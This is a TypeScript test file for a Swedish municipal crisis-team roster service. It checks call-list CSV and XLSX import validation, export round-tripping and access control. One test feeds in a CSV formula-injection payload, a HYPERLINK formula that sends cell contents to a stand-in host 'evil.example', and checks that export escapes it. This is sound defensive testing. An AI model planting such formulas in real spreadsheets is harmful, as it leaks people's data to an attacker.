import { Problem } from "@krisstod/contracts";
import { parse as parseCsv } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createMunicipality, type Harness, startRoster } from "./harness.ts";

const HEADER =
  "roll;förnamn;efternamn;arbetsplats;arbetsgivare;telefon;telefon2;epost;språk;chefsgodkännande;aktiv";
const BOM = "\ufeff";

interface Report {
  errors: { line: number; column: string; reason: string }[];
}

/** A call-list file as export writes it: BOM, semicolons, CRLF, ledningsgrupp first. */
function csv(rows: string[]): string {
  return `${BOM}${[HEADER, ...rows].join("\r\n")}\r\n`;
}

function person(i: number, overrides: Partial<Record<"role" | "phone" | "email" | "active", string>> = {}) {
  const phone = overrides.phone ?? `+4670${String(1_000_000 + i).padStart(7, "0")}`;
  return [
    overrides.role ?? "stödperson",
    `Förnamn${i}`,
    `Efternamn${i}`,
    ["Socialtjänsten", "Elevhälsan", "Capio vårdcentral", "Svenska kyrkan"][i % 4],
    i % 4 >= 2 ? "Capio Närsjukvård AB" : "Laholms kommun",
    phone,
    i % 10 === 0 ? "+4635137000" : "",
    overrides.email ?? (i % 3 === 0 ? `person${i}@example.se` : ""),
    i % 5 === 0 ? "sv,ar" : "sv",
    i % 4 >= 2 ? "ja" : "",
    overrides.active ?? "ja",
  ].join(";");
}

describe("call-list import and export", () => {
  let h: Harness;
  let lead: ReturnType<Harness["as"]>;
  const upload = (body: string | Uint8Array, query: string, contentType = "text/csv") =>
    lead(`/organisations/kommun-1381/call-lists/import?${query}`, {
      method: "POST",
      body: typeof body === "string" ? body : new Blob([new Uint8Array(body)]),
      headers: { "Content-Type": contentType },
    });
  const exported = async (format: "csv" | "xlsx") => {
    const response = await lead(`/organisations/kommun-1381/call-lists/export?format=${format}`);
    expect(response.status).toBe(200);
    return new Uint8Array(await response.arrayBuffer());
  };
  const peopleCount = async () =>
    ((await (await lead("/organisations/kommun-1381/people")).json()) as unknown[]).length;

  beforeAll(async () => {
    h = await startRoster();
    lead = h.as({ organisationId: "kommun-1381", roles: ["posom-lead"] });
    await createMunicipality(h, "kommun-1381", "Laholms kommun");
  });
  afterAll(() => h?.stop());

  it("reports every bad row of a 5,000-row file by line and reason, and imports nothing", async () => {
    const rows = Array.from({ length: 5000 }, (_, i) => person(i));
    rows[41] = person(41, { phone: "070-12" }); // file line 43
    rows[2500] = person(2500, { email: "inte-en-adress" }); // line 2502
    rows[4998] = person(4998, { role: "brandman" }); // line 5000
    const file = csv(rows);
    const dry = await upload(file, "dryRun=true&format=csv");
    expect(dry.status).toBe(200);
    const report = (await dry.json()) as Report;
    expect(report).toMatchObject({ dryRun: true, valid: false, rows: 5000 });
    expect(report.errors).toEqual([
      { line: 43, column: "telefon", reason: expect.stringContaining("070-12") },
      { line: 2502, column: "epost", reason: expect.stringContaining("inte-en-adress") },
      { line: 5000, column: "roll", reason: expect.stringContaining("brandman") },
    ]);
    const real = await upload(file, "format=csv");
    expect(real.status).toBe(422);
    const problem = Problem.parse(await real.json());
    expect(problem.errors?.map((e) => e.field)).toEqual([
      "line 43: telefon",
      "line 2502: epost",
      "line 5000: roll",
    ]);
    expect(await peopleCount()).toBe(0);

    rows[41] = person(41);
    rows[2500] = person(2500);
    rows[4998] = person(4998);
    const clean = await upload(csv(rows), "format=csv");
    expect(clean.status).toBe(200);
    expect(await clean.json()).toMatchObject({ valid: true, rows: 5000, created: 5000, updated: 0 });
    expect(await peopleCount()).toBe(5000);
  }, 180_000);

  it("names the line and column of a bad phone number, including one written twice", async () => {
    const file = csv([person(1), person(2, { phone: "12345" }), person(3, { phone: "070-100 00 01" })]);
    const report = (await (await upload(file, "dryRun=true", "text/csv; charset=utf-8")).json()) as Report;
    expect(report.errors).toEqual([
      { line: 3, column: "telefon", reason: expect.stringContaining("12345") },
      { line: 4, column: "telefon", reason: "samma nummer som på rad 2" },
    ]);
  });

  it("exports exactly the CSV it imported, and an .xlsx that imports back to the same lists", async () => {
    const original = csv([
      person(1, { role: "samordnare" }),
      person(2, { role: "ledningsgrupp" }),
      person(3, { role: "ledningsgrupp", active: "nej" }),
      person(4),
      person(5),
      person(6),
      person(7, { role: "pkl" }),
    ]);
    const imported = await upload(original, "format=csv");
    expect(imported.status).toBe(200);
    // The earlier 5,000 were matched by phone where they reappear and are otherwise left off the lists.
    expect(await imported.json()).toMatchObject({ created: 0, updated: 7, removedFromLists: 4993 });
    // Export writes phone numbers as "'+4670…" (a leading + is a formula to a spreadsheet) and
    // import reads that back as the number, so the file round-trips.
    const asExported = original.replaceAll(";+46", ";'+46");
    const back = Buffer.from(await exported("csv")).toString("utf8");
    expect(back).toBe(asExported);
    expect(await (await upload(back, "format=csv")).json()).toMatchObject({ created: 0, updated: 7 });

    const xlsx = await exported("xlsx");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(xlsx) as unknown as ExcelJS.Buffer);
    expect(workbook.worksheets[0]?.getRow(2).getCell(6).text).toBe("+46701000001");
    const reimported = await upload(
      xlsx,
      "format=xlsx",
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    );
    expect(await reimported.json()).toMatchObject({
      valid: true,
      created: 0,
      updated: 7,
      removedFromLists: 0,
    });
    expect(Buffer.from(await exported("csv")).toString("utf8")).toBe(asExported);
  });

  it("writes names that a spreadsheet would run as formulas as plain text in the CSV export", async () => {
    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Klicka")';
    const file = csv([
      `samordnare;"${formula.replaceAll('"', '""')}";+SUM(1);@Arbetsplats;-2+3;+46701000001;;;sv;;ja`,
      person(2),
    ]);
    const imported = await upload(file, "format=csv");
    expect(imported.status, await imported.clone().text()).toBe(200);
    const rows: string[][] = parseCsv(Buffer.from(await exported("csv")), { bom: true, delimiter: ";" });
    const row = rows.find((r) => r[1]?.includes("HYPERLINK"));
    expect(row?.slice(1, 6)).toEqual([`'${formula}`, "'+SUM(1)", "'@Arbetsplats", "'-2+3", "'+46701000001"]);
    // No cell of the whole file starts with a formula character.
    for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("refuses a file that is not a call list with a 400 naming the body, and an unreadable workbook", async () => {
    const wrongHeader = (await (
      await upload("namn;telefon\r\nAnna;0701234567\r\n", "dryRun=true&format=csv")
    ).json()) as Report;
    expect(wrongHeader.errors).toEqual([
      { line: 1, column: "fil", reason: expect.stringContaining("rubrikraden") },
    ]);
    const notXlsx = await upload("this is not a workbook", "format=xlsx");
    expect(notXlsx.status).toBe(400);
    expect(Problem.parse(await notXlsx.json()).errors?.[0]?.field).toBe("body");
  });

  it("lets only the organisation's leads download the file with everyone's numbers", async () => {
    const member = h.as({ organisationId: "kommun-1381", roles: ["ledningsgrupp"] });
    expect((await member("/organisations/kommun-1381/call-lists/export")).status).toBe(403);
    const other = h.as({ organisationId: "kommun-1380", roles: ["posom-lead"] });
    expect((await other("/organisations/kommun-1381/call-lists/export")).status).toBe(403);
  });
});
